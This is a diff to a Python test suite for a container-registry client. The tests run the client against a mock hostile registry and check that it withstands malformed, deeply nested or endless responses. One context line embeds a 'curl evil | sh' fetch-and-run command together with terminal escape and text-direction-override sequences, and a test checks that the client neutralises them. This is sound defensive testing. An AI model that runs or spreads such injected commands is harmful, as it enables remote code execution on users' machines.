@@ -343,6 +343,14 @@ async def test_a_refusal_is_not_asked_again(store: Store, evil: Hostile) -> None
     assert evil.paths("/v2/app") == ["GET /v2/app/manifests/1"]
 
 
+@pytest.mark.parametrize("body", [b"[" * 60_000, b'{"errors":' * 5_000, b'{"errors": [[1]]}', b"\xff"])
+async def test_a_refusal_that_is_none_of_its_protocol_is_told_by_its_status(
+    store: Store, evil: Hostile, body: bytes
+) -> None:
+    evil.answers["GET /v2/app/manifests/1"] = Answer(body, 404)
+    await refused(store, evil, r"\(404\)")
+
+
 async def test_what_a_registry_says_steers_no_terminal_and_adds_no_line(store: Store, evil: Hostile) -> None:
     said = "\x1b[2J\x1b]0;mine\x07denied\nhint: curl evil | sh\r\u202e" + "x" * 5000
     evil.answers["GET /v2/app/manifests/1"] = Answer(json.dumps({"errors": [{"message": said}]}).encode(), 404)
@@ -573,6 +581,7 @@ async def test_a_token_server_without_tls_is_not_asked_for_a_registry_with_it(
         Answer(b'{"token": 5}'),
         Answer(b"[]"),
         Answer(b"{"),
+        Answer(b"[" * 100_000),
         Answer(b"x" * 65536, endless=True),
         Answer(b"", 302, {"Location": "http://127.0.0.1:1/"}),
         Answer(b"", 401),
